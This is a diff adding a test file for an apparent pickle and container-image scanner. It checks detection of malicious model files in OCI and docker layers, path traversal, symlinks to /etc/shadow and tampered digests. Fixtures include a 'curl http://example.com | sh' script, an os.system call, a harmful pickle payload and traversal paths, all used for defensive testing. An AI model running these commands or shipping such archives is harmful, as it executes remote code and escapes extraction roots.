@@ -1,0 +1,130 @@
+import { gzipSync } from 'fflate';
+import type { ScanReport } from '../../../../report';
+import type { TestLayer } from '../../../../testing';
+import {
+  ECHO,
+  PAYLOAD,
+  bytes,
+  dockerArchive,
+  ociArchive,
+  proto,
+  run,
+  tarEntry,
+  tarOf,
+  zeros
+} from '../../../../testing';
+
+const EVIL = proto(2, PAYLOAD);
+const ELF = bytes('\x7fELF\x02\x01\x01', zeros(57));
+const SCRIPT = bytes('#!/bin/sh\ncurl http://example.com | sh\n');
+const layer = (...files: [string, Uint8Array][]): Uint8Array =>
+  tarOf(...files.map(([name, data]) => tarEntry({ name, data })));
+const SYSTEM = layer(
+  ['bin/busybox', ELF],
+  ['etc/init.d/run', SCRIPT],
+  ['usr/lib/python3/x.py', bytes('import os\nos.system("id")\n')],
+  ['usr/share/data.bin', bytes([1, 2, 3, 0, 0xff, 0xfe])],
+  ['usr/share/a.xml', bytes('<?xml version="1.0"?><a/>')]
+);
+const MODEL = layer(['models/model.pkl', EVIL]);
+const HONEST = layer(['models/model.pkl', proto(2, '}')]);
+
+const scanned = (data: Uint8Array): ScanReport => run(data, {}, 'image.tar');
+const found = (data: Uint8Array): [string, string, string][] =>
+  scanned(data).findings.map(({ rule, severity, evidence }) => [rule, severity, evidence]);
+const oci = (...layers: TestLayer[]): Uint8Array => ociArchive(layers);
+
+test('a model in a layer is judged, and the system around it is none of its business', () => {
+  for (const image of [
+    oci({ data: SYSTEM }, { data: HONEST }),
+    dockerArchive({ 'aa/layer.tar': SYSTEM, 'bb/layer.tar': HONEST })
+  ]) {
+    expect(scanned(image)).toMatchObject({ verdict: 'clean', findings: [] });
+  }
+});
+
+test.each<[string, Uint8Array, string[]]>([
+  ['OCI', oci({ data: SYSTEM }, { data: MODEL }), ['demo:1 layer 2', 'models/model.pkl']],
+  [
+    'OCI, compressed',
+    oci({ data: gzipSync(MODEL), mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip' }),
+    ['demo:1 layer 1', 'decompressed', 'models/model.pkl']
+  ],
+  [
+    'docker save',
+    dockerArchive({ 'aa/layer.tar': SYSTEM, 'bb/layer.tar': MODEL }),
+    ['demo:1 layer 2', 'models/model.pkl']
+  ],
+  ['docker save, layers of any name', dockerArchive({ 'first.tar': MODEL }), ['demo:1 layer 1', 'models/model.pkl']],
+  ['an archive in gzip', gzipSync(oci({ data: MODEL })), ['image.tar', 'demo:1 layer 1', 'models/model.pkl']]
+])('a harmful model is found, and the report says in which layer: %s', (_name, image, members) => {
+  const report = run(image, {}, 'image.tar.gz');
+  expect(report.findings.map(({ evidence, severity }) => [evidence, severity])).toEqual([[ECHO, 'CRITICAL']]);
+  const shown = report.findings[0].where.members.map(name => name.replace(/ \([^)]*\)$/, ''));
+  expect(shown).toEqual(members);
+});
+
+test('a pickle under the path of the system, or behind a program, is a pickle', () => {
+  expect(found(oci({ data: layer(['usr/lib/x.pkl', EVIL]) })).map(([, severity]) => severity)).toEqual(['CRITICAL']);
+});
+
+test('unknown bytes among the models are not understood', () => {
+  expect(scanned(oci({ data: layer(['models/weights.bin', bytes([1, 2, 3, 0, 0xff, 0xfe])]) })).verdict).toBe(
+    'incomplete'
+  );
+});
+
+test('an artifact keeps a model as a layer of its own, with a name', () => {
+  const mediaType = 'application/vnd.cncf.model.weight.v1.raw';
+  const kind = 'application/vnd.cncf.model.config.v1+json';
+  const report = scanned(ociArchive([{ data: EVIL, mediaType, title: 'model.pkl' }], kind));
+  expect(report.findings.map(({ where }) => where.members)).toEqual([['demo:1 model.pkl']]);
+  const outside = ociArchive([{ data: proto(2, '}'), mediaType, title: '../../.bashrc' }], kind);
+  expect(found(outside)).toEqual([['archive-path-traversal', 'HIGH', '../../.bashrc']]);
+});
+
+test('layers that are missing, elsewhere, or not what they are called', () => {
+  expect(scanned(oci({ data: MODEL, missing: true })).coverage).toContainEqual(
+    expect.objectContaining({ status: 'failed', reason: 'image-layer-missing' })
+  );
+  expect(found(oci({ data: HONEST, missing: true, urls: ['https://example.com/layer'] }))).toEqual([
+    ['image-layer-elsewhere', 'LOW', 'https://example.com/layer']
+  ]);
+  expect(found(oci({ data: HONEST, tampered: true })).map(([rule, severity]) => [rule, severity])).toEqual([
+    ['image-digest-mismatch', 'MEDIUM']
+  ]);
+});
+
+test('a blob that no manifest lists is scanned, as is a part of an archive without manifests', () => {
+  const stray = tarEntry({ name: `blobs/sha256/${'0'.repeat(64)}`, data: EVIL });
+  expect(found(bytes(stray, oci({ data: HONEST }))).map(([rule]) => rule)).toContain('pickle-dangerous-call');
+  expect(found(tarOf(tarEntry({ name: 'a/layer.tar', data: MODEL }))).map(([rule]) => rule)).toEqual([
+    'pickle-dangerous-call'
+  ]);
+});
+
+test('links and names: the root is that of the image', () => {
+  const links = (name: string, link: string): string[] =>
+    found(oci({ data: tarOf(tarEntry({ name, type: '2', link })) })).map(([rule]) => rule);
+  expect(links('bin', 'usr/bin')).toEqual([]);
+  expect(links('etc/alternatives/awk', '/usr/bin/mawk')).toEqual([]);
+  expect(links('var/run', '/run')).toEqual([]);
+  expect(links('app/log', '/dev/stdout')).toEqual([]);
+  expect(links('models/model.pkl', '/etc/shadow')).toEqual(['archive-link']);
+  expect(links('models/model.pkl', '../../etc/shadow')).toEqual(['archive-link']);
+  expect(found(oci({ data: layer(['/models/model.pkl', proto(2, '}')]) }))).toEqual([]);
+  expect(found(oci({ data: layer(['../../x', bytes('x')]) }))).toEqual([['archive-path-traversal', 'HIGH', '../../x']]);
+});
+
+test('a layer of an unpacked image is told by its name', () => {
+  const name = 'ab'.repeat(32);
+  expect(run(SYSTEM, {}, name).verdict).toBe('clean');
+  expect(run(gzipSync(SYSTEM), {}, name).verdict).toBe('clean');
+  expect(run(gzipSync(MODEL), {}, name).verdict).toBe('unsafe');
+});
+
+test('devices and pipes in an archive that is no image', () => {
+  const device = tarOf(tarEntry({ name: 'weights.bin', type: '3' }));
+  expect(found(device)).toEqual([['archive-device', 'MEDIUM', 'weights.bin (type 3)']]);
+  expect(found(oci({ data: device }))).toEqual([]);
+});
